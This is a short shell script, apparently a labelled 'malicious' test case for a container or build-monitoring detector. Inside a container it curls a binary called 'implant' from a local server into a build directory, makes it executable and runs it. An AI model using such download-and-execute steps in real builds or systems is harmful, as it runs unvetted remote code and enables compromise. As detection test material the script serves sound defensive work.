#!/bin/sh
# malicious: the same build container exec, but the binary run from the build dir was downloaded, not compiled (curl -o then run)
# container
. "$(dirname "$0")/../../lib.sh"
ctr_exec sh -c 'set -e; mkdir -p /tmp/build-4711; curl -s -o /tmp/build-4711/app http://127.0.0.1:8080/implant; chmod +x /tmp/build-4711/app; /tmp/build-4711/app' </dev/null
